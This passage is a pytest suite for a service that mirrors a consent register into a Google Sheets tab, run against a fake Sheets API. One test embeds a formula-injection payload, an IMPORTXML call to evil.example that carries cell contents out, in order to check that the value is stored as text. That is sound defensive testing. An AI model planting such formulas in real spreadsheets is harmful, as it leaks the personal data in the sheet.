"""The Google Sheets mirror, against a fake of the Sheets API that real gspread talks to."""

from __future__ import annotations

import json
import logging
import random
import socket
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from mirrors.sheets import LAYOUT_MAX_AGE, GoogleSheetsMirror
from mirrors.sheets_client import RetryPolicy
from mirrors.sheets_plans import plan_value_writes
from service.domain.ports import MirrorMisconfigured, MirrorUnavailable
from tests.fakes.google_sheets import FakeGoogleSheets, LoggedRequest, SimulatedTime

from .conftest import HEADER, SERVICE_ACCOUNT, TAB, contact_row, register

MakeMirror = Callable[..., GoogleSheetsMirror]


def shown(fake: FakeGoogleSheets, spreadsheet_id: str) -> list[list[str]]:
    """Return what the tab shows, trailing blanks trimmed."""
    return fake.values(spreadsheet_id, TAB)


def expected(rows: list[list[str]]) -> list[list[str]]:
    """Return header and rows as the API reads them back (empty cells at row ends trimmed)."""
    out = []
    for row in [HEADER, *rows]:
        row = list(row)
        while row and row[-1] == "":
            row.pop()
        out.append(row)
    return out


def values_writes(fake: FakeGoogleSheets) -> list[LoggedRequest]:
    """Return the logged values:batchUpdate requests."""
    return [r for r in fake.api_requests("write") if r.path.endswith("/values:batchUpdate")]


def layout_writes(fake: FakeGoogleSheets) -> list[LoggedRequest]:
    """Return the logged spreadsheet :batchUpdate requests."""
    return [
        r
        for r in fake.api_requests("write")
        if r.path.endswith(":batchUpdate") and not r.path.endswith("/values:batchUpdate")
    ]


# -- rows appear and vanish ----------------------------------------------------------------------


def test_register_rows_appear_under_the_header(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    rows = register(3)
    report = mirror.apply(HEADER, rows)
    assert shown(fake_sheets, spreadsheet_id) == expected(rows)
    assert (report.added, report.changed, report.removed) == (3, 0, 0)
    assert report.repaired_layout  # the tab had to be created


def test_rows_keep_the_order_the_register_gives(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    rows = register(5)
    mirror.apply(HEADER, rows)
    mirror.apply(HEADER, list(reversed(rows)))
    assert shown(fake_sheets, spreadsheet_id) == expected(list(reversed(rows)))


def test_withdrawn_row_vanishes_from_the_tab(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    rows = register(4)
    mirror.apply(HEADER, rows)
    withdrawn = rows.pop(1)
    report = mirror.apply(HEADER, rows)
    tab = shown(fake_sheets, spreadsheet_id)
    assert tab == expected(rows)
    assert all(withdrawn[0] not in row for row in tab)
    assert (report.added, report.changed, report.removed) == (0, 0, 1)


def test_last_row_withdrawn_leaves_only_the_header(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    mirror.apply(HEADER, register(2))
    mirror.apply(HEADER, [])
    assert shown(fake_sheets, spreadsheet_id) == [HEADER]


def test_changed_consent_changes_only_that_row(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    rows = register(20)
    mirror.apply(HEADER, rows)
    rows[7] = [*rows[7][:5], "kyllä", "21.11.2026 10.30", rows[7][7]]
    fake_sheets.clear_log()
    report = mirror.apply(HEADER, rows)
    assert shown(fake_sheets, spreadsheet_id) == expected(rows)
    assert report.changed == 1
    [write] = values_writes(fake_sheets)
    assert write.body_size < 600  # one row travelled, not the register


# -- convergence from whatever state the tab is in -----------------------------------------------


def test_hand_edited_cell_is_put_right_by_next_pass(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    rows = register(3)
    mirror.apply(HEADER, rows)
    fake_sheets.set_cell(spreadsheet_id, TAB, "C3", "joku.muu@example.fi")
    report = mirror.apply(HEADER, rows)
    assert shown(fake_sheets, spreadsheet_id) == expected(rows)
    assert report.changed == 1


def test_sorted_tab_is_put_back_in_register_order(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    rows = register(6)
    mirror.apply(HEADER, rows)
    fake_sheets.sort_rows(spreadsheet_id, TAB, column=2, reverse=True)
    assert shown(fake_sheets, spreadsheet_id) != expected(rows)
    report = mirror.apply(HEADER, rows)
    assert shown(fake_sheets, spreadsheet_id) == expected(rows)
    assert (report.added, report.changed, report.removed) == (0, 0, 0)
    assert report.drift and report.repaired_layout


def test_deleted_row_is_restored_by_next_pass(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    rows = register(5)
    mirror.apply(HEADER, rows)
    fake_sheets.delete_row(spreadsheet_id, TAB, 3)
    report = mirror.apply(HEADER, rows)
    assert shown(fake_sheets, spreadsheet_id) == expected(rows)
    assert report.added == 1


def test_row_added_by_hand_is_removed_by_next_pass(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    rows = register(3)
    mirror.apply(HEADER, rows)
    fake_sheets.insert_row(spreadsheet_id, TAB, 2, contact_row("Kalle Käsin"))
    report = mirror.apply(HEADER, rows)
    assert shown(fake_sheets, spreadsheet_id) == expected(rows)
    assert report.removed == 1


def test_copied_row_with_a_duplicate_key_is_removed(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    rows = register(3)
    mirror.apply(HEADER, rows)
    fake_sheets.insert_row(spreadsheet_id, TAB, 5, rows[0])
    report = mirror.apply(HEADER, rows)
    assert shown(fake_sheets, spreadsheet_id) == expected(rows)
    assert report.removed == 1


def test_renamed_header_is_restored_by_next_pass(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    rows = register(2)
    mirror.apply(HEADER, rows)
    fake_sheets.set_cell(spreadsheet_id, TAB, "B1", "Etunimi")
    fake_sheets.set_cell(spreadsheet_id, TAB, "J1", "Muistiinpanot")
    report = mirror.apply(HEADER, rows)
    assert shown(fake_sheets, spreadsheet_id) == expected(rows)
    assert report.repaired_layout


def test_deleted_tab_is_recreated_by_next_pass(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    rows = register(3)
    mirror.apply(HEADER, rows)
    fake_sheets.delete_tab(spreadsheet_id, TAB)
    report = mirror.apply(HEADER, rows)
    assert shown(fake_sheets, spreadsheet_id) == expected(rows)
    assert report.added == 3 and report.repaired_layout
    assert len(fake_sheets.protected_ranges(spreadsheet_id, TAB)) == 1


def test_tab_renamed_by_hand_is_taken_back_rather_than_left_stale(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    rows = register(3)
    mirror.apply(HEADER, rows)
    fake_sheets.rename_tab(spreadsheet_id, TAB, "Vanha lista")
    rows.pop()
    mirror.apply(HEADER, rows)
    assert fake_sheets.tab_titles(spreadsheet_id) == ["Sheet1", TAB]
    assert shown(fake_sheets, spreadsheet_id) == expected(rows)


def test_tab_shrunk_by_hand_is_grown_before_rows_are_written(
    make_mirror: MakeMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    make_mirror().apply(HEADER, register(2))
    fake_sheets.resize_tab(spreadsheet_id, TAB, rows=3, cols=4)
    rows = register(30)
    fake_sheets.clear_log()
    make_mirror().apply(HEADER, rows)  # a new process: `consent sync`, or a restarted worker
    assert shown(fake_sheets, spreadsheet_id) == expected(rows)
    assert all(r.status == 200 for r in fake_sheets.api_requests())


def test_tab_shrunk_by_hand_while_its_layout_was_remembered_is_put_right_in_the_same_pass(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    mirror.apply(HEADER, register(2))
    fake_sheets.resize_tab(spreadsheet_id, TAB, rows=3, cols=4)
    rows = register(30)
    report = mirror.apply(HEADER, rows)
    assert shown(fake_sheets, spreadsheet_id) == expected(rows)
    assert report.added == 30


def test_withdrawal_deletes_the_row_instead_of_rewriting_every_row_below_it(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    rows = register(500)
    mirror.apply(HEADER, rows)
    del rows[3]
    fake_sheets.clear_log()
    report = mirror.apply(HEADER, rows)
    assert shown(fake_sheets, spreadsheet_id) == expected(rows)
    [write] = fake_sheets.api_requests("write")
    assert write.body_size < 400  # one deleteDimension, not 496 rows moved up
    assert report.requests == 2 and report.removed == 1


def test_withdrawals_and_new_contacts_among_kept_rows_land_in_register_order(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    rows = register(40)
    mirror.apply(HEADER, rows)
    newcomers = register(5)
    rows = rows[:2] + newcomers[:2] + rows[5:20] + [newcomers[2]] + rows[22:] + newcomers[3:]
    rows[10][1] += " (muutettu)"
    fake_sheets.clear_log()
    report = mirror.apply(HEADER, rows)
    assert shown(fake_sheets, spreadsheet_id) == expected(rows)
    assert (report.added, report.changed, report.removed) == (5, 1, 5)
    assert len(fake_sheets.api_requests("write")) == 1  # row moves and values in one request


def test_protection_and_frozen_header_are_set_once_not_every_pass(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    rows = register(3)
    for _ in range(3):
        mirror.apply(HEADER, rows)
        rows.append(contact_row("Uusi Ihminen"))
    [protection] = fake_sheets.protected_ranges(spreadsheet_id, TAB)
    assert SERVICE_ACCOUNT in protection["editors"]["users"]
    assert protection["warningOnly"] is False
    assert set(protection["range"]) == {"sheetId"}  # the whole tab
    assert (
        fake_sheets.sheet_properties(spreadsheet_id, TAB)["gridProperties"]["frozenRowCount"] == 1
    )
    assert len(layout_writes(fake_sheets)) == 1


def test_removed_protection_and_unfrozen_header_are_restored(
    mirror: GoogleSheetsMirror,
    fake_sheets: FakeGoogleSheets,
    spreadsheet_id: str,
    sim_time: SimulatedTime,
) -> None:
    rows = register(2)
    mirror.apply(HEADER, rows)
    fake_sheets.remove_protection(spreadsheet_id, TAB)
    fake_sheets.unfreeze(spreadsheet_id, TAB)
    sim_time.sleep(LAYOUT_MAX_AGE + 1)  # a pass reads the layout again at least this often
    report = mirror.apply(HEADER, rows)
    assert report.repaired_layout
    assert len(fake_sheets.protected_ranges(spreadsheet_id, TAB)) == 1
    assert (
        fake_sheets.sheet_properties(spreadsheet_id, TAB)["gridProperties"]["frozenRowCount"] == 1
    )


# -- few requests ---------------------------------------------------------------------------------


def test_unchanged_register_costs_one_read_and_no_write(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets
) -> None:
    rows = register(10)
    mirror.apply(HEADER, rows)
    fake_sheets.clear_log()
    report = mirror.apply(HEADER, rows)
    reads = fake_sheets.api_requests("read")
    assert [r.is_metadata for r in reads] == [False]  # the tab's values; its layout is known
    assert fake_sheets.api_requests("write") == []
    assert report.requests == 1 and not report.drift


def test_layout_is_read_again_after_the_refresh_interval(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, sim_time: SimulatedTime
) -> None:
    rows = register(10)
    mirror.apply(HEADER, rows)
    sim_time.sleep(LAYOUT_MAX_AGE + 1)
    fake_sheets.clear_log()
    report = mirror.apply(HEADER, rows)
    assert [r.is_metadata for r in fake_sheets.api_requests("read")] == [True, False]
    assert report.requests == 2 and not report.drift


@pytest.mark.parametrize("changes", [1, 40, 400])
def test_any_number_of_changes_costs_one_values_read_and_one_write(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str, changes: int
) -> None:
    rows = register(400)
    mirror.apply(HEADER, rows)
    for i in range(0, 400, 400 // changes):
        rows[i][1] += " (muutettu)"
    fake_sheets.clear_log()
    report = mirror.apply(HEADER, rows)
    assert len(fake_sheets.api_requests("read")) == 1
    assert len(fake_sheets.api_requests("write")) == 1
    assert report.requests == 2 and report.changed == changes
    assert [r for r in fake_sheets.requests if r.kind == "token"] == []  # the token is reused
    assert shown(fake_sheets, spreadsheet_id) == expected(rows)


def test_first_pass_into_a_new_tab_costs_one_read_and_one_write(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets
) -> None:
    report = mirror.apply(HEADER, register(50))
    api = fake_sheets.api_requests()
    assert [r.kind for r in api] == ["read", "write"]  # the new tab and its rows, atomically
    assert report.requests == 2


def test_first_pass_too_large_for_one_request_creates_the_tab_then_writes_the_rows(
    make_mirror: MakeMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    mirror = make_mirror(max_request_bytes=20_000)
    rows = register(300)
    mirror.apply(HEADER, rows)
    assert len(layout_writes(fake_sheets)) == 1
    assert all(w.body_size <= 20_000 for w in fake_sheets.api_requests("write"))
    assert shown(fake_sheets, spreadsheet_id) == expected(rows)


def test_large_write_is_split_below_the_request_size_limit(
    make_mirror: MakeMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    mirror = make_mirror(max_request_bytes=20_000)
    rows = register(300)
    mirror.apply(HEADER, rows)
    writes = values_writes(fake_sheets)
    assert len(writes) > 1
    assert all(w.body_size <= 20_000 for w in writes)
    assert shown(fake_sheets, spreadsheet_id) == expected(rows)


def test_register_over_two_megabytes_is_planned_as_requests_under_two_megabytes() -> None:
    rows = [[f"{i:036d}", "x" * 200] for i in range(12_000)]
    bodies = plan_value_writes(TAB, [["Tunniste", "Nimi"], *rows], [])
    sizes = [len(json.dumps(body).encode()) for body in bodies]
    assert len(bodies) == 2 and all(size < 2_000_000 for size in sizes)
    written = [row for body in bodies for data in body["data"] for row in data["values"]]
    assert written == [["Tunniste", "Nimi"], *rows]


# -- a full pass as a stream ----------------------------------------------------------------------


class Readings:
    """Rows as the register gives them to a pass: read afresh at each iteration, and counted."""

    def __init__(self, *versions: list[list[str]]) -> None:
        self.versions = versions  # what each reading finds; the last one stays
        self.readings = 0

    def __iter__(self) -> Iterator[list[str]]:
        rows = self.versions[min(self.readings, len(self.versions) - 1)]
        self.readings += 1
        return iter([list(row) for row in rows])


def test_pass_over_a_tab_in_step_reads_the_register_once(mirror: GoogleSheetsMirror) -> None:
    rows = register(30)
    mirror.apply(HEADER, rows)
    stream = Readings(rows)
    assert not mirror.apply(HEADER, stream).drift
    assert stream.readings == 1


def test_pass_that_writes_reads_the_register_again_for_the_rows_it_writes(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    rows = register(30)
    stream = Readings(rows)
    mirror.apply(HEADER, stream)
    assert stream.readings == 2
    assert shown(fake_sheets, spreadsheet_id) == expected(rows)


def test_check_only_reads_the_register_once(mirror: GoogleSheetsMirror) -> None:
    stream = Readings(register(5))
    assert mirror.apply(HEADER, stream, check_only=True).added == 5
    assert stream.readings == 1


def test_row_changed_between_the_two_readings_is_written_as_last_read(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    rows = register(6)
    mirror.apply(HEADER, rows)
    first = [list(row) for row in rows]
    first[2][1] = "Nimi Muuttui"
    later = [list(row) for row in first]
    later[2][1] = "Nimi Muuttui Taas"
    mirror.apply(HEADER, Readings(first, later))
    assert shown(fake_sheets, spreadsheet_id) == expected(later)


def test_row_that_leaves_between_the_two_readings_is_put_right_by_the_next_pass(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    rows = register(6)
    mirror.apply(HEADER, rows)
    newcomer = contact_row("Uusi Mutta Lähti")
    mirror.apply(HEADER, Readings([*rows[:3], newcomer, *rows[3:]], rows))
    assert all(newcomer[0] not in row for row in shown(fake_sheets, spreadsheet_id))
    mirror.apply(HEADER, rows)
    assert shown(fake_sheets, spreadsheet_id) == expected(rows)


def test_tab_is_read_in_fixed_row_ranges(
    make_mirror: MakeMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    mirror = make_mirror(read_rows=10)
    rows = register(35)
    mirror.apply(HEADER, rows)
    rows[20][1] += " (muutettu)"
    fake_sheets.clear_log()
    report = mirror.apply(HEADER, rows)
    ranges = [r.decoded_path.rsplit("/", 1)[-1] for r in fake_sheets.api_requests("read")]
    # Four full ranges; the fourth comes back short, so the rest of the grid is one range.
    assert ranges == [f"'{TAB}'!{a}:{a + 9}" for a in (1, 11, 21, 31)] + [f"'{TAB}'!A41:Z"]
    assert shown(fake_sheets, spreadsheet_id) == expected(rows)
    assert report.changed == 1


def test_rows_a_person_added_below_the_remembered_grid_are_removed(
    make_mirror: MakeMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    mirror = make_mirror(read_rows=10)
    rows = register(12)
    mirror.apply(HEADER, rows)
    grid = fake_sheets.sheet_properties(spreadsheet_id, TAB)["gridProperties"]
    rows_before = grid["rowCount"]
    fake_sheets.resize_tab(spreadsheet_id, TAB, rows=rows_before + 30, cols=grid["columnCount"])
    fake_sheets.set_cell(spreadsheet_id, TAB, f"A{rows_before + 20}", "käsin lisätty")
    report = mirror.apply(HEADER, rows)
    assert shown(fake_sheets, spreadsheet_id) == expected(rows)
    assert report.removed == 1


@pytest.mark.parametrize("seed", range(6))
def test_one_pass_reading_the_tab_in_small_ranges_converges_from_a_mangled_tab(
    make_mirror: MakeMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str, seed: int
) -> None:
    rng = random.Random(100 + seed)
    mirror = make_mirror(read_rows=rng.randint(1, 7))
    rows = register(rng.randint(0, 40))
    mirror.apply(HEADER, rows)
    for _ in range(rng.randint(1, 6)):
        tab = shown(fake_sheets, spreadsheet_id)
        at = rng.randint(2, len(tab) + 1)
        if rng.random() < 0.5:
            fake_sheets.insert_row(spreadsheet_id, TAB, at, [])
        else:
            fake_sheets.insert_row(spreadsheet_id, TAB, at, contact_row("Käsin Lisätty"))
    rows = [row for row in rows if rng.random() > 0.2]
    rows += register(rng.randint(0, 5))
    mirror.apply(HEADER, rows)
    assert shown(fake_sheets, spreadsheet_id) == expected(rows)
    assert not mirror.apply(HEADER, rows, check_only=True).drift


# -- values stay text -----------------------------------------------------------------------------


def test_formula_like_text_is_stored_as_text(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    sneaky = contact_row('=IMPORTXML("https://evil.example/?"&C2, "//a")')
    sneaky[2] = "+358401234567"
    mirror.apply(HEADER, [sneaky])
    name = fake_sheets.stored_cell(spreadsheet_id, TAB, "B2")
    assert name == '=IMPORTXML("https://evil.example/?"&C2, "//a")'
    assert isinstance(name, str)  # text, not a Formula: written with valueInputOption=RAW
    assert fake_sheets.stored_cell(spreadsheet_id, TAB, "C2") == "+358401234567"
    assert shown(fake_sheets, spreadsheet_id) == expected([sneaky])


# -- check only -----------------------------------------------------------------------------------


def test_check_only_reports_drift_and_writes_nothing(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    rows = register(4)
    mirror.apply(HEADER, rows)
    fake_sheets.set_cell(spreadsheet_id, TAB, "B2", "Käsin Muutettu")
    before = shown(fake_sheets, spreadsheet_id)
    fake_sheets.clear_log()
    report = mirror.apply(HEADER, [*rows[1:], contact_row("Uusi Asiakas")], check_only=True)
    assert (report.added, report.changed, report.removed) == (1, 0, 1)
    assert report.drift
    assert fake_sheets.api_requests("write") == []
    assert shown(fake_sheets, spreadsheet_id) == before


def test_check_only_on_a_missing_tab_reports_drift_without_creating_it(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    report = mirror.apply(HEADER, register(2), check_only=True)
    assert report.added == 2 and report.repaired_layout
    assert fake_sheets.tab_titles(spreadsheet_id) == ["Sheet1"]


def test_check_only_of_a_mirror_in_step_reports_no_drift(mirror: GoogleSheetsMirror) -> None:
    rows = register(3)
    mirror.apply(HEADER, rows)
    assert not mirror.apply(HEADER, rows, check_only=True).drift


# -- quotas and outages ---------------------------------------------------------------------------


def test_quota_storm_ends_right_with_bounded_waits(
    mirror: GoogleSheetsMirror,
    fake_sheets: FakeGoogleSheets,
    spreadsheet_id: str,
    sim_time: SimulatedTime,
) -> None:
    rows = register(5)
    mirror.apply(HEADER, rows)
    rows.append(contact_row("Myöhäinen Liittyjä"))
    fake_sheets.fail(429, times=3, match="values:batchUpdate")
    mirror.apply(HEADER, rows)
    assert shown(fake_sheets, spreadsheet_id) == expected(rows)
    assert len(sim_time.sleeps) == 3
    assert all(0 <= wait <= 30 for wait in sim_time.sleeps)


def test_exhausted_write_quota_is_waited_out_into_the_next_minute(
    make_mirror: MakeMirror,
    fake_sheets: FakeGoogleSheets,
    spreadsheet_id: str,
    sim_time: SimulatedTime,
) -> None:
    fake_sheets.write_quota = 1
    mirror = make_mirror(random=lambda: 0.999)  # the longest waits the policy allows
    mirror.apply(HEADER, register(2))  # the one write of this minute: the tab with its rows
    rows = register(3)
    mirror.apply(HEADER, rows)
    assert shown(fake_sheets, spreadsheet_id) == expected(rows)
    assert any(r.status == 429 for r in fake_sheets.api_requests("write"))
    assert all(wait <= 30 for wait in sim_time.sleeps)


def test_retry_after_is_honoured(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, sim_time: SimulatedTime
) -> None:
    fake_sheets.fail(503, times=1, retry_after="7")
    mirror.apply(HEADER, register(1))
    assert sim_time.sleeps and sim_time.sleeps[0] >= 7


def test_long_outage_raises_unavailable_after_bounded_attempts(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, sim_time: SimulatedTime
) -> None:
    fake_sheets.fail(503, times=None)
    with pytest.raises(MirrorUnavailable, match="503"):
        mirror.apply(HEADER, register(2))
    assert len(fake_sheets.api_requests()) == RetryPolicy().max_attempts
    assert len(sim_time.sleeps) == RetryPolicy().max_attempts - 1
    assert all(wait <= 30 for wait in sim_time.sleeps)


def test_next_pass_after_an_outage_makes_the_tab_right(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    rows = register(3)
    mirror.apply(HEADER, rows)
    fake_sheets.fail(503, times=None, match="values")
    withdrawn = rows.pop(0)
    with pytest.raises(MirrorUnavailable):
        mirror.apply(HEADER, rows)
    fake_sheets.heal()
    mirror.apply(HEADER, rows)
    tab = shown(fake_sheets, spreadsheet_id)
    assert tab == expected(rows)
    assert all(withdrawn[0] not in row for row in tab)


def test_dropped_connections_are_retried(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    rows = register(3)
    fake_sheets.fail(mode="drop", times=2)
    mirror.apply(HEADER, rows)
    assert shown(fake_sheets, spreadsheet_id) == expected(rows)
    assert [r.status for r in fake_sheets.api_requests()][:2] == [0, 0]


def test_write_whose_answer_times_out_is_safely_sent_again(
    make_mirror: MakeMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    mirror = make_mirror(timeout=0.2)
    rows = register(3)
    mirror.apply(HEADER, rows)
    rows[1][1] = "Nimi Vaihdettu"
    fake_sheets.fail(mode="slow", delay=0.6, match="values:batchUpdate")
    report = mirror.apply(HEADER, rows)
    assert report.changed == 1
    assert shown(fake_sheets, spreadsheet_id) == expected(rows)


def test_layout_change_is_not_sent_again_after_a_server_error(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    # The tab may have been added before the 500: sending addSheet again could fail or duplicate.
    fake_sheets.fail(500, match=f"{spreadsheet_id}:batchUpdate", apply_first=True)
    with pytest.raises(MirrorUnavailable):
        mirror.apply(HEADER, register(2))
    assert len(layout_writes(fake_sheets)) == 1
    rows = register(2)
    mirror.apply(HEADER, rows)  # the next pass finds the tab and finishes the job
    assert shown(fake_sheets, spreadsheet_id) == expected(rows)
    assert len(fake_sheets.protected_ranges(spreadsheet_id, TAB)) == 1


def test_expired_token_is_renewed_without_failing_the_pass(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    rows = register(2)
    mirror.apply(HEADER, rows)
    fake_sheets.revoke_tokens()
    rows.append(contact_row("Uusi Tunnus"))
    mirror.apply(HEADER, rows)
    assert shown(fake_sheets, spreadsheet_id) == expected(rows)
    assert len([r for r in fake_sheets.requests if r.kind == "token"]) == 2


# -- misconfiguration -----------------------------------------------------------------------------


def test_spreadsheet_not_shared_is_misconfigured_naming_the_account(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    fake_sheets.unshare(spreadsheet_id, SERVICE_ACCOUNT)
    with pytest.raises(MirrorMisconfigured) as caught:
        mirror.apply(HEADER, register(1))
    message = str(caught.value)
    assert f"share the spreadsheet {spreadsheet_id} with {SERVICE_ACCOUNT} as Editor" in message
    assert len(fake_sheets.api_requests()) == 1  # a 403 is not retried


def test_spreadsheet_shared_read_only_is_misconfigured(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    fake_sheets.share(spreadsheet_id, SERVICE_ACCOUNT, role="reader")
    with pytest.raises(MirrorMisconfigured, match="as Editor"):
        mirror.apply(HEADER, register(1))


def test_protection_by_someone_else_that_shuts_out_the_account_is_misconfigured(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str
) -> None:
    mirror.apply(HEADER, register(1))
    fake_sheets.remove_protection(spreadsheet_id, TAB)
    sheet_id = fake_sheets.sheet_properties(spreadsheet_id, TAB)["sheetId"]
    fake_sheets.add_protection(
        spreadsheet_id, TAB, {"range": {"sheetId": sheet_id}, "editors": {"users": []}}
    )
    with pytest.raises(MirrorMisconfigured, match="remove that protection"):
        mirror.apply(HEADER, register(2))


def test_unknown_spreadsheet_is_misconfigured_naming_the_id(make_mirror: MakeMirror) -> None:
    mirror = make_mirror(spreadsheet_id="1NoSuchSheet")
    with pytest.raises(MirrorMisconfigured, match="no spreadsheet with id 1NoSuchSheet"):
        mirror.apply(HEADER, register(1))


def test_missing_credentials_file_is_misconfigured(make_mirror: MakeMirror, tmp_path: Path) -> None:
    mirror = make_mirror(credentials_file=tmp_path / "missing.json")
    with pytest.raises(MirrorMisconfigured, match="credentials file unreadable"):
        mirror.apply(HEADER, register(1))


@pytest.mark.parametrize(
    ("content", "complaint"),
    [
        ("{not json", "not JSON"),
        (json.dumps({"type": "authorized_user", "client_id": "x"}), "not a service account key"),
        (json.dumps({"type": "service_account", "client_email": "a@b"}), "not a usable"),
    ],
)
def test_broken_credentials_file_is_misconfigured(
    make_mirror: MakeMirror, tmp_path: Path, content: str, complaint: str
) -> None:
    path = tmp_path / "key.json"
    path.write_text(content, encoding="utf-8")
    with pytest.raises(MirrorMisconfigured, match=complaint):
        make_mirror(credentials_file=path).apply(HEADER, register(1))


def test_deleted_key_is_misconfigured_asking_for_a_new_key(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets
) -> None:
    fake_sheets.delete_key(SERVICE_ACCOUNT)
    with pytest.raises(MirrorMisconfigured) as caught:
        mirror.apply(HEADER, register(1))
    assert "create a new key" in str(caught.value)
    assert SERVICE_ACCOUNT in str(caught.value)
    assert fake_sheets.api_requests() == []


def test_errors_and_logs_carry_no_personal_data(
    mirror: GoogleSheetsMirror,
    fake_sheets: FakeGoogleSheets,
    spreadsheet_id: str,
    caplog: pytest.LogCaptureFixture,
) -> None:
    rows = [contact_row("Salainen Asiakas", "salainen@example.fi")]
    caplog.set_level(logging.DEBUG, logger="mirrors")
    fake_sheets.fail(429, times=2)
    mirror.apply(HEADER, rows)
    fake_sheets.fail(503, times=None)
    with pytest.raises(MirrorUnavailable) as outage:
        mirror.apply(HEADER, [*rows, contact_row("Toinen Salainen")])
    fake_sheets.heal()
    fake_sheets.unshare(spreadsheet_id, SERVICE_ACCOUNT)
    with pytest.raises(MirrorMisconfigured) as refused:
        mirror.apply(HEADER, rows)
    said = caplog.text + str(outage.value) + str(refused.value)
    assert caplog.records  # the retries were logged
    for secret in ("Salainen", "salainen@example.fi", rows[0][7]):
        assert secret not in said


# -- staying on the machine -----------------------------------------------------------------------


def test_mirror_talks_to_nothing_but_the_configured_endpoints(
    mirror: GoogleSheetsMirror, monkeypatch: pytest.MonkeyPatch
) -> None:
    looked_up: list[str] = []
    real_getaddrinfo = socket.getaddrinfo

    def recording_getaddrinfo(host: Any, *args: Any, **kwargs: Any) -> Any:
        looked_up.append(str(host))
        return real_getaddrinfo(host, *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", recording_getaddrinfo)
    mirror.apply(HEADER, register(2))
    mirror.apply(HEADER, register(2))
    for thread in threading.enumerate():
        if "RegionalAccessBoundary" in type(thread).__name__:
            thread.join(timeout=2)  # google-auth's background lookup, refused before any socket
    assert set(looked_up) <= {"127.0.0.1"}


def test_retry_waits_use_full_jitter_and_stay_under_the_cap() -> None:
    policy = RetryPolicy()
    draw = random.Random(7).random
    for attempt in range(1, 10):
        for quota in (True, False):
            wait = policy.wait(attempt, quota=quota, draw=draw)
            assert 0 <= wait <= policy.max_wait
    assert policy.wait(1, quota=False, draw=lambda: 0.0) == 0.0


@pytest.mark.parametrize("seed", range(12))
def test_one_pass_converges_from_a_randomly_mangled_tab(
    mirror: GoogleSheetsMirror, fake_sheets: FakeGoogleSheets, spreadsheet_id: str, seed: int
) -> None:
    rng = random.Random(seed)
    rows = register(rng.randint(0, 60))
    mirror.apply(HEADER, rows)
    # People edit, add, copy and delete rows; sometimes they sort.
    for _ in range(rng.randint(0, 6)):
        tab = shown(fake_sheets, spreadsheet_id)
        action = rng.choice(["edit", "add", "copy", "delete", "blank", "sort"])
        if action == "edit" and len(tab) > 1:
